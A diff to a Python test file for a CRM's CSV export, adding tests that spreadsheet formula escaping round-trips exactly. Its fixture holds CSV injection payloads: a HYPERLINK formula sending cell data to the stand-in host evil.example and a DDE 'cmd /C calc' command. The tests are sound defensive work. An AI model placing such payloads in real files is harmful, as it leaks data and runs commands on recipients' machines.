@@ -9,6 +9,10 @@ import csv
 import io
 from typing import Any
 
+import pytest
+
+from pcrm.formats.generic_csv import spreadsheet_safe, unescape_formula
+
 EVIL = {
     "full_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
     "company": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -62,3 +66,18 @@ def test_the_escaped_file_imports_back_to_the_same_values(crm: Any, tmp_path: An
     (c,) = crm.cli.json("contacts", "list")["data"]
     assert c["full_name"] == EVIL["full_name"] and c["company"] == EVIL["company"]
     assert c["title"] == EVIL["title"] and c["notes"] == EVIL["notes"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["=1+1", "'=1+1", "''@SUM(1)", "'+41 79 555 12 12", "'plain", "it's", "-", "+41 79 555 12 12", ""],
+)
+def test_the_guard_is_undone_exactly(cell: str) -> None:
+    """What the import reads back is the cell as stored, a leading apostrophe of its own included."""
+    assert unescape_formula(spreadsheet_safe(cell)) == cell
+
+
+def test_a_lone_dash_is_no_formula() -> None:
+    """The dash a list writes for none (`last`: -) stays a dash, not `'-`."""
+    assert spreadsheet_safe("-") == "-"
+    assert spreadsheet_safe("-x") == "'-x"
